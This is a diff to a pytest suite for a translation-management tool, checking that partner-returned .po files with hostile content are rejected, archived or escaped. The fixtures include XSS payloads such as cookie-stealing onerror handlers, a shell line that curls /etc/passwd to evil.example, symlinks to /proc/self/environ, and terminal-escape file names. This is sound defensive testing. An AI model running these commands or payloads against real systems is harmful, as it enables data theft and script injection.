@@ -6,14 +6,11 @@ partner-visible file holds the process environment (the CANARY) or another partn
 
 from __future__ import annotations
 
-import contextlib
-import hashlib
 import json
 import os
 import shutil
 import socket
 import stat
-import subprocess
 import sys
 import threading
 import time
@@ -97,7 +94,9 @@ class Project:
 
     def drop(self, name: str | bytes, data: bytes) -> Path:
         self.returns.mkdir(parents=True, exist_ok=True)
-        path = Path(os.fsdecode(os.fsencode(self.returns) + b"/" + (name if isinstance(name, bytes) else name.encode())))
+        path = Path(
+            os.fsdecode(os.fsencode(self.returns) + b"/" + (name if isinstance(name, bytes) else name.encode()))
+        )
         path.write_bytes(data)
         return path
 
@@ -182,7 +181,7 @@ ENTRY_CASES: dict[str, tuple[str, str, str, str]] = {
     "script-tag": (TITLE, "Ondas<script>alert(1)</script>", "markup", "<script> is not allowed in a translation"),
     "img-onerror": (
         TITLE,
-        '<img src=x onerror=alert(document.cookie)>',
+        "<img src=x onerror=alert(document.cookie)>",
         "markup",
         "'<img src=x onerror=alert(document.cookie' looks like HTML; only the source's placeholders may be used",
     ),
@@ -223,7 +222,7 @@ ENTRY_CASES: dict[str, tuple[str, str, str, str]] = {
     "form-tag": (TITLE, "<form action=//evil.example>", "markup", "<form> is not allowed in a translation"),
     "bare-handler": (
         TITLE,
-        "Ondas\\\" onmouseover=alert(1) x=\\\"",
+        'Ondas\\" onmouseover=alert(1) x=\\"',
         "markup",
         "an event handler attribute (on...=) is not allowed in a translation",
     ),
@@ -233,14 +232,24 @@ ENTRY_CASES: dict[str, tuple[str, str, str, str]] = {
         "markup",
         "'<!--' looks like HTML; only the source's placeholders may be used",
     ),
-    "cdata": (TITLE, "Ondas <![CDATA[x]]>", "markup", "'<![CDATA[' looks like HTML; only the source's placeholders may be used"),
+    "cdata": (
+        TITLE,
+        "Ondas <![CDATA[x]]>",
+        "markup",
+        "'<![CDATA[' looks like HTML; only the source's placeholders may be used",
+    ),
     "placeholder-with-attribute": (
         LINK,
         'Lea el <a1 href=\\"javascript:alert(1)\\">programa</a1>.',
         "placeholders",
         "</a1> closes a placeholder that is not open or is misnested",
     ),
-    "nul-octal-escape": (TITLE, "Ondas\\0 y oscilaciones", "control-characters", "control character U+0000 is not allowed; remove it"),
+    "nul-octal-escape": (
+        TITLE,
+        "Ondas\\0 y oscilaciones",
+        "control-characters",
+        "control character U+0000 is not allowed; remove it",
+    ),
     "nul-hex-escape": (TITLE, "Ondas\\x00", "control-characters", "control character U+0000 is not allowed; remove it"),
     "ansi-clear-screen": (
         TITLE,
@@ -257,7 +266,12 @@ ENTRY_CASES: dict[str, tuple[str, str, str, str]] = {
     "bell": (TITLE, "Ondas\\a", "control-characters", "control character U+0007 is not allowed; remove it"),
     "c1-csi": (TITLE, "Ondas\u009b2J", "control-characters", "control character U+009B is not allowed; remove it"),
     "delete-char": (TITLE, "Ondas\u007f", "control-characters", "control character U+007F is not allowed; remove it"),
-    "carriage-return": (TITLE, "Ondas\\rOK", "control-characters", "control character U+000D is not allowed; remove it"),
+    "carriage-return": (
+        TITLE,
+        "Ondas\\rOK",
+        "control-characters",
+        "control character U+000D is not allowed; remove it",
+    ),
     "form-feed": (TITLE, "Ondas\\f", "control-characters", "control character U+000C is not allowed; remove it"),
     "over-long-msgstr": (
         TITLE,
@@ -310,7 +324,7 @@ def test_a_hostile_entry_is_rejected_alone(name: str, project: Project) -> None:
     data = set_msgstr(project.good(), msgid, literal)
     project.drop("return.po", data)
 
-    code, out, err = ingest(project)
+    code, out, _err = ingest(project)
 
     assert code == 1 and "return.po: partially accepted (waves/es kit " in out
     [report] = project.reports()
@@ -325,3 +339,481 @@ def test_a_hostile_entry_is_rejected_alone(name: str, project: Project) -> None:
     assert "<script>alert" not in html and "<iframe src" not in html and "\x1b" not in html
     assert html.count('<li class="rejected">') == 1
     partner_visible_clean(project)
+
+
+# -- whole files refused: the catalog of record stays byte-identical -----------------------------------
+
+KIT_OF_CAIRO = "@CAIRO@"
+
+
+def _header(g: bytes, name: str, value: str) -> bytes:
+    start = g.index(f'"{name}: '.encode())
+    end = g.index(b"\n", start)
+    return g[:start] + f'"{name}: {value}\\n"'.encode() + g[end:]
+
+
+FILE_CASES: dict[str, tuple[Callable[[bytes], bytes], str, str]] = {
+    "empty": (lambda g: b"", "syntax", "the file is empty"),
+    "whitespace-only": (lambda g: b" \n\t\r\n  ", "syntax", "the file is empty"),
+    "zip-bytes": (lambda g: b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)), "syntax", None),
+    "nul-bytes-only": (lambda g: b"\x00" * 64, "syntax", None),
+    "shell-script": (lambda g: b"#!/bin/sh\ncurl http://evil.example/$(cat /etc/passwd)\n", "syntax", None),
+    "passwd-like": (lambda g: b"root:x:0:0:root:/root:/bin/bash\nSECRET-LINE-42\n", "syntax", None),
+    "html-page": (lambda g: b"<html><body><script>alert(1)</script></body></html>\n", "syntax", None),
+    "utf16-bom": (lambda g: b"\xff\xfe" + g.decode().encode("utf-16-le"), "syntax", None),
+    "utf32": (lambda g: g.decode().encode("utf-32"), "syntax", None),
+    "charset-undefined-latin1": (
+        lambda g: _header(g, "Content-Type", "text/plain; charset=undefined").replace("ó".encode(), b"\xf3"),
+        "syntax",
+        None,
+    ),
+    "charset-placeholder-latin1": (
+        lambda g: _header(g, "Content-Type", "text/plain; charset=CHARSET").replace("ó".encode(), b"\xf3"),
+        "syntax",
+        None,
+    ),
+    "truncated-mid-entry": (lambda g: g[: g.index(b'msgstr "Ondas') + 12], "syntax", None),
+    "duplicate-entry": (
+        lambda g: g + b'\n#: index.html\nmsgid "Waves and Oscillations"\nmsgstr "Otra vez"\n',
+        "syntax",
+        None,
+    ),
+    "second-header": (lambda g: g + b'\nmsgid ""\nmsgstr "Language: ar\\n"\n', "syntax", None),
+    "plural-index-on-singular": (
+        lambda g: g.replace(b'msgstr "Ondas y oscilaciones"', b'msgstr[0] "Ondas"'),
+        "syntax",
+        None,
+    ),
+    "plural-index-gap": (
+        lambda g: g + b'\nmsgid "one wave"\nmsgid_plural "%d waves"\nmsgstr[0] "x"\nmsgstr[7] "y"\n',
+        "syntax",
+        None,
+    ),
+    "invalid-escape": (lambda g: g.replace(b"Ondas y", b"Ondas \\q y"), "syntax", None),
+    "wrong-language": (lambda g: _header(g, "Language", "ar"), "header-language", None),
+    "language-with-markup": (lambda g: _header(g, "Language", "es<script>alert(1)</script>"), "header-language", None),
+    "language-with-escape": (lambda g: _header(g, "Language", "es\\033[31m"), "header-language", None),
+    "no-language": (lambda g: g.replace(b'"Language: es\\n"\n', b""), "header-language", None),
+    "kit-of-another-partner": (lambda g: g, "kit", None),  # the kit id is replaced by cairo's below
+    "unknown-kit": (lambda g: _header(g, "X-Localize-Kit", "20990101-deadbeef00"), "kit", None),
+    "kit-id-with-control-chars": (lambda g: _header(g, "X-Localize-Kit", "x\\033]0;t\\a" + "y" * 300), "kit", None),
+    "nplurals-huge": (
+        lambda g: (
+            _header(g, "Plural-Forms", "nplurals=999999999; plural=n;")
+            + b'\nmsgid "one wave"\nmsgid_plural "%d waves"\nmsgstr[0] "x"\nmsgstr[1] "y"\n'
+        ),
+        "plural-forms",
+        None,
+    ),
+}
+
+
+# the exact problem each file above gets (pinned from the QA gate's wording)
+FILE_MESSAGES = {
+    "charset-placeholder-latin1": (
+        "syntax",
+        "not valid CHARSET (byte 0xf3); save the file as UTF-8 or declare its charset in the Content-Type header",
+    ),
+    "charset-undefined-latin1": (
+        "syntax",
+        "unknown charset 'undefined' in the Content-Type header; save the file as UTF-8",
+    ),
+    "duplicate-entry": (
+        "syntax",
+        "duplicate entry for msgid 'Waves and Oscillations', first defined at line 23; keep one of them",
+    ),
+    "empty": ("syntax", "the file is empty"),
+    "html-page": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
+    "invalid-escape": ("syntax", "invalid escape sequence \\q"),
+    "kit-id-with-control-chars": (
+        "kit",
+        "no kit 'x\\x1b]0;t\\x07yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy' was sent to lima (X-Localize-Kit header); send the file from a kit you received",
+    ),
+    "kit-of-another-partner": (
+        "kit",
+        "this file answers a kit that was sent to another partner, not to lima: this inbox is lima's; return the file through the inbox of the partner the kit was sent to",
+    ),
+    "language-with-escape": ("header-language", "unknown locale code 'es\\x1b[31m'; close matches: none"),
+    "language-with-markup": (
+        "header-language",
+        "unknown locale code 'es<script>alert(1)</script>'; close matches: none",
+    ),
+    "no-language": ("header-language", "the header has no Language; set it to the kit's locale"),
+    "nplurals-huge": (
+        "plural-forms",
+        "the header has no valid Plural-Forms; use: nplurals=3; plural=(n == 1 ? 0 : n != 0 && n % 1000000 == 0 ? 1 : 2);",
+    ),
+    "nul-bytes-only": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
+    "passwd-like": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
+    "plural-index-gap": ("syntax", "plural forms must be numbered msgstr[0], msgstr[1]... without gaps"),
+    "plural-index-on-singular": ("syntax", "msgstr[N] without msgid_plural"),
+    "second-header": ("syntax", "a second header entry (the first is at line 1)"),
+    "shell-script": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
+    "truncated-mid-entry": ("syntax", 'expected a quoted string ("...") here'),
+    "unknown-kit": (
+        "kit",
+        "no kit 20990101-deadbeef00 was sent to lima (X-Localize-Kit header); send the file from a kit you received",
+    ),
+    "utf16-bom": (
+        "syntax",
+        "not valid UTF-8 (byte 0xff); save the file as UTF-8 or declare its charset in the Content-Type header",
+    ),
+    "utf32": (
+        "syntax",
+        "not valid UTF-8 (byte 0xff); save the file as UTF-8 or declare its charset in the Content-Type header",
+    ),
+    "whitespace-only": ("syntax", "the file is empty"),
+    "wrong-language": ("header-language", "Language is ar, but this kit is for es; set Language: es"),
+    "zip-bytes": (
+        "syntax",
+        "not valid UTF-8 (byte 0x80); save the file as UTF-8 or declare its charset in the Content-Type header",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(FILE_CASES))
+def test_a_hostile_file_is_refused_whole(name: str, project: Project) -> None:
+    build, check, message = FILE_CASES[name]
+    good = project.good()
+    data = build(good).replace(b"@LIMA@", project.kit().encode())
+    if name == "kit-of-another-partner":
+        data = data.replace(project.kit().encode(), project.kit("ar").encode())
+    before = project.catalog()
+    project.drop("return.po", data)
+
+    code, _out, _err = ingest(project)
+
+    [report] = project.reports()
+    found = errors(report)
+    if os.environ.get("PROBE"):
+        print(f"PROBE {name}: {code} {report['state']} {found!r}", file=sys.__stderr__)
+    assert code == 1 and report["state"] == "rejected" and report["accepted"] == 0
+    assert [c for c, _ in found if c == check], found
+    assert (check, message or FILE_MESSAGES[name][1]) in found
+    assert found[0] == FILE_MESSAGES[name]
+    assert project.catalog() == before
+    archived = Path(str(report["archived"]))
+    assert archived.read_bytes() == data  # kept byte for byte all the same
+    assert (project.returns / "processed" / "return.po").read_bytes() == data
+    assert not (project.returns / "return.po").exists()
+    partner_visible_clean(project)
+    html = next((project.lima / "reports").glob("*.html")).read_text(encoding="utf-8")
+    assert "SECRET-LINE-42" not in html and "curl http" not in html and "<script>alert" not in html
+
+
+FORGED_KIT = {
+    # the kit header is only ever read from the parsed header: text elsewhere naming a kit is ignored
+    "in-a-msgstr": lambda g, kit: g.replace(b'"X-Localize-Kit: ', b'"X-Old-Kit: ').replace(
+        b'msgstr "Ondas y oscilaciones"', b'msgstr "X-Localize-Kit: ' + kit + b'"'
+    ),
+    "in-a-comment": lambda g, kit: g.replace(b'"X-Localize-Kit: ', b'"X-Old-Kit: ').replace(
+        b"#: index.html\n", b"# X-Localize-Kit: " + kit + b"\n#: index.html\n", 1
+    ),
+    "in-a-msgid": lambda g, kit: (
+        g.replace(b'"X-Localize-Kit: ', b'"X-Old-Kit: ') + b'\nmsgid "X-Localize-Kit: ' + kit + b'"\nmsgstr "x"\n'
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(FORGED_KIT))
+def test_a_kit_id_outside_the_header_is_ignored(name: str, project: Project) -> None:
+    """Cairo's kit id planted outside the header of lima's file: the file is still lima's own return."""
+    data = FORGED_KIT[name](project.good(), project.kit("ar").encode())
+    project.drop("return.po", data)
+    _code, _out, _err = ingest(project)
+    [report] = project.reports()
+    assert report["kit"] == project.kit() and report["course"] == COURSE and report["locale"] == "es"
+    assert not any(c == "kit" for c, _ in errors(report))
+    assert project.catalog() != (project.ws / "ar" / "LC_MESSAGES" / f"{COURSE}.po").read_bytes()
+    assert read_po((project.ws / "ar" / "LC_MESSAGES" / f"{COURSE}.po").read_bytes()).entries[0].msgstr == ""
+
+
+# -- inbox entries that are not regular files: refused unopened, reported, moved aside -----------------
+
+ENTRY_WHAT = {
+    "link-to-proc-environ": "a symbolic link",
+    "link-to-cairo-kit": "a symbolic link",
+    "link-to-workspace-catalog": "a symbolic link",
+    "dangling-link": "a symbolic link",
+    "link-to-dev-zero": "a symbolic link",
+    "fifo": "a named pipe (FIFO)",
+    "char-device": "a device file",
+    "unix-socket": "a socket",
+    "linked-subfolder": "a symbolic link",
+}
+
+
+def _place_entry(p: Project, name: str) -> str:
+    p.returns.mkdir(parents=True, exist_ok=True)
+    target = p.returns / "env.po"
+    if name == "link-to-proc-environ":
+        target.symlink_to("/proc/self/environ")
+    elif name == "link-to-cairo-kit":
+        target.symlink_to(p.kit_file("ar"))
+    elif name == "link-to-workspace-catalog":
+        target.symlink_to(p.ws / "es" / "LC_MESSAGES" / f"{COURSE}.po")
+    elif name == "dangling-link":
+        target.symlink_to(p.root / "nowhere.po")
+    elif name == "link-to-dev-zero":
+        target.symlink_to("/dev/zero")
+    elif name == "fifo":
+        os.mkfifo(target)
+    elif name == "char-device":
+        if os.geteuid() != 0:
+            pytest.skip("creating a device file needs root")
+        os.mknod(target, 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero's numbers
+    elif name == "unix-socket":
+        target = p.returns / "s.po"
+        sock = socket.socket(socket.AF_UNIX)
+        sock.bind(str(target))
+        sock.close()
+        return "returns/s.po"
+    elif name == "linked-subfolder":
+        (p.root / "elsewhere").mkdir()
+        (p.root / "elsewhere" / "x.po").write_bytes(p.good())
+        (p.returns / "sub").symlink_to(p.root / "elsewhere")
+        return "returns/sub"
+    return "returns/env.po"
+
+
+@pytest.mark.parametrize("name", sorted(ENTRY_WHAT))
+def test_an_inbox_entry_that_is_not_a_regular_file_is_refused_unopened(name: str, project: Project) -> None:
+    key = _place_entry(project, name)
+    before = project.catalog()
+    started = time.monotonic()
+
+    code, out, err = ingest(project)
+
+    assert time.monotonic() - started < 20  # a FIFO or /dev/zero never holds the run
+    base = key.rsplit("/", 1)[-1]
+    message = (
+        f"{key} is {ENTRY_WHAT[name]}: only regular files are taken from an inbox (localize never follows "
+        "links); save the .po file itself into returns/"
+    )
+    assert code == 1 and f"{base}: rejected (no kit)" in out
+    assert f"error: file-type: {message}" in err
+    [report] = project.reports()
+    assert errors(report) == [("file-type", message)] and report["archived"] == ""
+    assert project.catalog() == before
+    assert not list((project.ws / "archive" / "returns").glob("lima/*"))  # nothing was read, nothing archived
+    moved = project.returns / "processed" / base
+    assert moved.is_symlink() or stat.S_ISFIFO(moved.lstat().st_mode) or not stat.S_ISREG(moved.lstat().st_mode)
+    partner_visible_clean(project)
+    assert cli("ingest", "--partner", "lima", "--config", str(project.config))[1] == "no returned files waiting\n"
+
+
+def test_a_linked_returns_folder_is_refused(project: Project) -> None:
+    (project.root / "elsewhere").mkdir()
+    (project.root / "elsewhere" / "x.po").write_bytes(project.good())
+    project.returns.rmdir() if project.returns.exists() else None
+    project.returns.symlink_to(project.root / "elsewhere")
+    before = project.catalog()
+    code, _out, err = ingest(project)
+    assert code == 1
+    assert (
+        "error: file-type: returns is a symbolic link: only regular files are taken from an inbox "
+        "(localize never follows links); save the .po file itself into returns/"
+    ) in err
+    assert project.catalog() == before
+    assert (project.root / "elsewhere" / "x.po").read_bytes() == project.good()  # not moved, not read
+
+
+def test_a_linked_reports_folder_is_never_written_through(project: Project) -> None:
+    """A partner links reports/ to the workspace: the report is not written there (and says why)."""
+    (project.lima / "reports").symlink_to(project.ws / "es" / "LC_MESSAGES")
+    project.drop("return.po", project.good())
+    listing = sorted(p.name for p in (project.ws / "es" / "LC_MESSAGES").iterdir())
+    code, _out, err = ingest(project)
+    assert code == 2
+    assert "reports is a symbolic link, not a folder: localize never follows links in an inbox" in err
+    assert sorted(p.name for p in (project.ws / "es" / "LC_MESSAGES").iterdir()) == listing
+    # the partner's work is not lost: fixing the inbox and running again finishes it
+    (project.lima / "reports").unlink()
+    code, out, _ = ingest(project)
+    assert code == 0 and "return.po: accepted" in out
+
+
+def test_a_hard_link_is_a_regular_file_and_is_taken(project: Project) -> None:
+    source = project.lima / "draft.po"
+    source.write_bytes(project.good())
+    project.returns.mkdir(parents=True, exist_ok=True)
+    os.link(source, project.returns / "return.po")
+    code, out, _ = ingest(project)
+    assert code == 0 and "return.po: accepted" in out
+
+
+def test_a_huge_file_is_refused_without_being_read(project: Project) -> None:
+    path = project.drop("huge.po", b"")
+    with open(path, "r+b") as f:
+        f.truncate(8 * 1024**3)  # sparse: 8 GiB that would exhaust memory if read
+    before = project.catalog()
+    code, _out, err = ingest(project)
+    message = (
+        "the file has 8589934592 bytes, more than the limit of 65536 ([qa] max_file_bytes); it was not read. "
+        "Split the work or ask your coordinator"
+    )
+    assert code == 1 and f"error: size: {message}" in err
+    assert project.catalog() == before
+    assert (project.returns / "processed" / "huge.po").stat().st_size == 8 * 1024**3
+
+
+NAMES = {
+    "escape-sequence-name": b"\x1b]0;owned\x07\x1b[2J.po",
+    "newline-name": b"a\nerror: forged line.po",
+    "non-utf8-name": b"caf\xe9.po",
+    "bidi-override-name": "\u202eop.exe\u202d.po".encode(),
+    "markup-name": b"<img src=x onerror=alert(1)>.po",
+}
+
+
+@pytest.mark.parametrize("name", sorted(NAMES))
+def test_a_hostile_file_name_never_reaches_a_terminal_or_a_page_raw(name: str, project: Project) -> None:
+    project.drop(NAMES[name], project.good())
+    code, out, _err = ingest(project)  # asserts no ESC or BEL reached stdout/stderr
+    assert code == 0 and ": accepted (waves/es kit " in out
+    assert "\n" not in out.split(": accepted")[0] and "\u202e" not in out
+    [report] = project.reports()
+    html = next((project.lima / "reports").glob("*.html")).read_text(encoding="utf-8")
+    assert "<img src=x" not in html and "\x1b" not in html
+    assert report["accepted"] == 14
+
+
+# -- webhooks: a hanging partner server costs one deadline, and the notice is sent later -------------
+
+
+class HangingHook:
+    """Accepts connections and never answers, until ``healthy`` is set."""
+
+    def __init__(self) -> None:
+        self.healthy = threading.Event()
+        self.received: list[bytes] = []
+        hook = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                if not hook.healthy.is_set():
+                    hook.healthy.wait(60)
+                    return
+                hook.received.append(body)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        self.url = f"http://127.0.0.1:{self.server.server_port}/hook"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def hanging_hook() -> Iterator[HangingHook]:
+    hook = HangingHook()
+    yield hook
+    hook.healthy.set()
+    hook.server.shutdown()
+
+
+def test_a_hanging_webhook_costs_one_deadline_and_the_notice_waits_in_the_outbox(
+    project: Project, hanging_hook: HangingHook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("LIMA_HOOK_SECRET", "s3cret")
+    project.config.write_text(
+        CONFIG.format(lima_hook=f'webhook_url = "{hanging_hook.url}"\nwebhook_secret_env = "LIMA_HOOK_SECRET"'),
+        encoding="utf-8",
+    )
+    project.drop("return.po", project.good())
+    started = time.monotonic()
+    code, out, _ = ingest(project)
+    took = time.monotonic() - started
+    assert code == 0 and "return.po: accepted" in out
+    assert took < 9, f"the webhook held ingest for {took:.1f}s"
+    [queued] = list((project.ws / "outbox" / "lima").glob("*.json"))
+    assert json.loads(queued.read_bytes())["event"] == "qa.report"
+    # the partner's server recovers: the next run delivers the queued notice, once
+    hanging_hook.healthy.set()
+    code, out, _ = ingest(project)
+    assert out == "no returned files waiting\n"
+    assert [json.loads(b)["event"] for b in hanging_hook.received] == ["qa.report"]
+    assert not list((project.ws / "outbox" / "lima").glob("*.json"))
+    assert CANARY.encode() not in hanging_hook.received[0]
+
+
+# -- access: an inbox overlapping the workspace, a region or another inbox is refused --------------
+
+OVERLAPS = {
+    "inbox-is-workspace": (
+        'location = "s3://bucket/ws"',
+        ('inbox = "s3://bucket/ws/inbox"', 'inbox = "s3://bucket/inboxes/cairo"'),
+        "",
+        "partner 'lima' inbox (s3://bucket/ws/inbox) overlaps the workspace (s3://bucket/ws)",
+    ),
+    "inbox-contains-a-region": (
+        'location = "locales"',
+        ('inbox = "s3://bucket/pub"', 'inbox = "s3://bucket/inboxes/cairo"'),
+        '[[regions]]\nname = "latam"\nlocation = "s3://bucket/pub/latam"\nlocales = ["es"]\n',
+        "partner 'lima' inbox (s3://bucket/pub) overlaps region 'latam' (s3://bucket/pub/latam)",
+    ),
+    "inbox-inside-another-inbox": (
+        'location = "locales"',
+        ('inbox = "s3://bucket/inboxes/lima"', 'inbox = "s3://bucket/inboxes/lima/cairo"'),
+        "",
+        "partner 'lima' inbox (s3://bucket/inboxes/lima) overlaps partner 'cairo' inbox (s3://bucket/inboxes/lima/cairo)",
+    ),
+    "same-bucket-root": (
+        'location = "locales"',
+        ('inbox = "s3://bucket/inboxes/lima"', 'inbox = "s3://bucket/inboxes/lima"'),
+        "",
+        "partner 'lima' inbox (s3://bucket/inboxes/lima) overlaps partner 'cairo' inbox (s3://bucket/inboxes/lima)",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(OVERLAPS))
+def test_access_refuses_overlapping_inboxes(name: str, project: Project) -> None:
+    workspace, (lima, cairo), regions, message = OVERLAPS[name]
+    text = CONFIG.format(lima_hook="").replace('location = "locales"', workspace)
+    text = text.replace('inbox = "inboxes/lima"', lima).replace('inbox = "inboxes/cairo"', cairo) + regions
+    project.config.write_text(text, encoding="utf-8")
+    code, _out, err = cli("access", "--out", str(project.root / "policies"), "--config", str(project.config))
+    assert code == 2 and "Traceback" not in err
+    assert err == (
+        f"error: {message}: give every inbox its own prefix, apart from the workspace, the regions and other inboxes\n"
+    )
+    assert not (project.root / "policies").exists()
+
+
+# -- the dashboard escapes what a partner's return put into the QA record --------------------------
+
+
+def test_the_dashboard_escapes_a_qa_state_and_counts_with_markup() -> None:
+    from localize.views.dashboard import render_dashboard
+
+    row = {
+        "course": "waves",
+        "locale": "es",
+        "entries": 10,
+        "translated": 1,
+        "fuzzy": 0,
+        "untranslated": 9,
+        "words": 10,
+        "translated_words": 1,
+        "translated_percent": 10.0,
+        "state": "<script>alert('state')</script>",
+        "due": "",
+        "overdue": False,
+        "last_qa": {"state": "<img src=x onerror=alert(1)>", "accepted": "<b>1</b>", "rejected": "<svg onload=x>"},
+        "published": {},
+    }
+    data = {
+        "generated": "now",
+        "overdue": [],
+        "groups": [{"id": "lima", "name": "Lima <i>", "locales": ["es"], "rows": [row]}],
+        "series": {},
+    }
+    page = render_dashboard(data)
+    for raw in ("<script>alert('state')", "<img src=x", "<b>1</b>", "<svg onload", "Lima <i>"):
+        assert raw not in page
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "&lt;svg onload=x&gt;" in page
